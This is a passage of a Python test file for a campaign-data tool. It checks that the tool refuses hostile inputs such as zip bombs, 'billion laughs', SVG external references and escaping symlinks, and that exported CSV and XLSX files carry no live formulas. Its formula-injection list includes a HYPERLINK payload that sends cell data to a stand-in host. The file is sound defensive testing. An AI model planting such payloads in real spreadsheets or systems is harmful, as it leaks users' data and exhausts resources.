        lambda c: fifo(c.root / "tallies" / "mtl-grand.csv"),
        TallyRefused("not_regular_file", "mtl-grand.csv", None, None, shows="named pipe"),
    ),
    # workbooks in bounded memory (issue 12)
    "tally-hidden-first-sheet": (
        "workbooks",
        tally_file(lambda path, rows: hidden_first_sheet_workbook(path, rows, rows + rows)),
        TallyRefused("sheet_hidden", "mtl-grand.xlsx", None, None, shows="'old copy'"),
    ),
    "tally-one-space-in-XFD1048576": (
        "workbooks",
        tally_file(far_cell_workbook),
        RefusedInBounds("results", "mtl-grand.xlsx", shows="XFD1048576"),
    ),
    "tally-1-gigabyte-cell-zipped-to-1-megabyte": (
        "workbooks",
        tally_file(zip_bomb),
        RefusedInBounds("results", "mtl-grand.xlsx", shows="1000 MB once unzipped"),
    ),
    "tally-cell-of-5000-characters": (
        "workbooks",
        tally_csv(tally_row("ana", 210, "x" * 5000)),
        TallyRefused("cell_too_long", "mtl-grand.csv", row=6, column="C", shows="5000"),
    ),
}


@pytest.mark.parametrize("name", list(CORPUS))
def test_corpus(name, campaign_copy, tmp_path):
    _, mutate, outcome = CORPUS[name]
    mutate(campaign_copy)
    outcome.verify(campaign_copy.root, tmp_path / "out")


def test_corpus_covers_every_category_of_the_issue():
    categories = [category for category, _, _ in CORPUS.values()]
    assert len(CORPUS) >= 40
    for category in ("yaml", "types", "missing", "translations", "ids", "dates"):
        assert categories.count(category) >= 4, category
    for category in ("spreadsheets", "text", "images"):
        assert categories.count(category) >= 10, category


def test_corpus_covers_issue_12():
    categories = [category for category, _, _ in CORPUS.values()]
    for category in ("paths", "numbers", "keys", "files", "workbooks"):
        assert categories.count(category) >= 3, category


# A sample of refusals, through the command a coordinator runs: exit 1, the place and the fix
# in both languages, no traceback.
CLI_SAMPLE = [
    "tab-indentation",
    "key-given-twice",
    "plain-string-for-translations",
    "csv-title-without-english",
    "thirty-first-of-november",
    "unquoted-comma-in-address",
    "story-of-50000-characters",
    "emoji-in-card-message",
    "photo-svg-with-external-references",
    "photo-symlink-to-outside-file",
    "billion-laughs",
    "tally-absurd-count",
    "tally-formula-never-computed",
    "campaign-id-absolute-path",
    "impact-figure-5e29",
    "true-as-a-key",
    "photo-symlink-loop",
    "tally-cell-of-5000-characters",
]


@pytest.mark.parametrize("name", CLI_SAMPLE)
def test_cli_names_the_problem_without_a_traceback(name, campaign_copy):
    _, mutate, outcome = CORPUS[name]
    mutate(campaign_copy)
    command = "results" if isinstance(outcome, TallyRefused) else "check"
    for lang, place, fix in (
        ("en", "row" if outcome.row else "line", "Fix:"),
        ("fr", "ligne", "À faire :"),
    ):
        result = run_cli(command, str(campaign_copy.root), lang=lang)
        output = result.stdout + result.stderr
        assert result.returncode == 1, output
        assert "Traceback" not in output
        line = next(line for line in output.splitlines() if outcome.file in line)
        number = outcome.row if outcome.row else outcome.line
        assert number is None or f"{place} {number}" in line, line
        assert fix in line and len(line) < 700, line
        if getattr(outcome, "field", None):
            assert f"{'field' if lang == 'en' else 'champ'} {outcome.field}" in line, line


# Exports never carry a live formula (issue 12): every free text of events.csv and
# regions.csv typed as a formula, then results.csv, results.xlsx and the job sheet read back.
FORMULAS = [
    '=HYPERLINK("//x.example?"&B2,"MAJ")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1;2)",
    "\t=1+2",
    "\r=1+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = {  # emails and phone numbers are checked as such: a formula is refused there
    EVENTS: ["title_fr", "title_en", "venue", "address", "city", "contact_name"],
    REGIONS: ["name_fr", "name_en", "coordinator_name"],
}


def every_text_as(c, formula: str):
    for name, columns in TEXT_COLUMNS.items():
        path = c.root / name
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        for row in rows:
            row.update({column: formula for column in columns})
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")


@pytest.mark.parametrize("formula", FORMULAS)
def test_exports_carry_no_live_formula(formula, campaign_copy, tmp_path):
    from campaignkit.data.results import export, results_of

    every_text_as(campaign_copy, formula)
    data = load_campaign(campaign_copy.root)
    assert data.events[1].city == formula.strip(), "the formula passed check as a city"
    csv_path, xlsx_path = export(results_of(data), out_dir=tmp_path / "out")

    book = openpyxl.load_workbook(xlsx_path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a live formula"
    typed = [cell for cell in cells if cell.value == formula.strip()]
    assert typed, "the missing events' city is exported"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)

    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    assert not [value for row in rows for value in row if value.startswith(TRIGGERS)]
    text = csv_path.read_text(encoding="utf-8")
    assert all(line.startswith('"') for line in text.splitlines()), "every text is quoted"


# --- the same corpus through the editor's session (issue 10, item 3) ------------------------

SAME_PROBLEM = {"duplicate_id": "id_taken"}  # the session says it on the row being typed


def _session_shows(outcome: Refused, problems) -> list:
    codes = {outcome.code, SAME_PROBLEM.get(outcome.code)}
    return [
        p
        for p in problems
        if p.code in codes
        and p.file.endswith(outcome.file)
        and (outcome.field is None or p.field == outcome.field)
        and (p.line, p.row) == (outcome.line, outcome.row)
    ]


def _lines(path):
    """A file's lines, decoded as the CSV reader decodes it."""
    from campaignkit.data.csvfile import detect_encoding

    return detect_encoding(path.read_bytes())[0].splitlines()


def _edit_saves_only_its_lines(session, root):
    """One venue and one case text edited and saved: only their own lines change."""
    events_before = _lines(root / EVENTS)
    key = next(k for k in session.events.rows if session.events.values(k)["id"] == "mtl-cafe")
    session.events.set(key, "venue", "Salle « Essai », 2e")
    session.events.save()
    changed = [line for line in _diff(events_before, _lines(root / EVENTS))]
    assert len(changed) == 2 and "2e" in changed[1], changed
    ana_before = _lines(root / ANA)
    session.cases["ana"].set(("country", "en"), "Testland (edited)")
    session.cases["ana"].save()
    changed = _diff(ana_before, _lines(root / ANA))
    assert len(changed) == 2 and "Testland (edited)" in changed[1], changed
    assert check_campaign(root)[1] == []


def _diff(before, after):
    import difflib

    diff = difflib.unified_diff(before, after, lineterm="", n=0)
    return [line for line in diff if line[:1] in "+-" and line[:3] not in ("+++", "---")]


@pytest.mark.parametrize("name", list(CORPUS))
def test_corpus_through_the_editor_session(name, campaign_copy):
    from campaignkit.editor.session import Session

    _, mutate, outcome = CORPUS[name]
    mutate(campaign_copy)
    root = campaign_copy.root
    session = Session(root)
    tally = session.tally("mtl-grand")
    problems = session.all_problems()
    texts = [problem.text("en") for problem in problems]
    if isinstance(outcome, Refused):
        assert _session_shows(outcome, problems), texts
        assert session.preview_data() is None, "nothing previewed from data that is refused"
    elif isinstance(outcome, TallyRefused):
        found = [
            p
            for p in problems
            if p.code == outcome.code
            and p.file.endswith(outcome.file)
            and (p.row, p.column) == (outcome.row, outcome.column)
        ]
        assert found, texts
    elif isinstance(outcome, RefusedInBounds):
        named = [p for p in problems if p.file.endswith(outcome.file)]
        assert any(outcome.shows in p.text("en") for p in named), texts
    elif isinstance(outcome, TallyRead):
        assert problems == [], texts
        if tally.spreadsheet is None:
            counts = {case: tuple(pair) for case, pair in tally.counts.items()}
            letters = {case: int(pair[0].replace(" ", "")) for case, pair in counts.items()}
            assert letters == outcome.letters and int(tally.participants) == outcome.participants
            before = _lines(root / "tallies" / "mtl-grand.csv")
            tally.participants = "121"
            tally.save()
            assert len(_diff(before, _lines(root / "tallies" / "mtl-grand.csv"))) == 2
    else:
        assert problems == [], texts
        assert session.preview_data() is not None
        _edit_saves_only_its_lines(session, root)
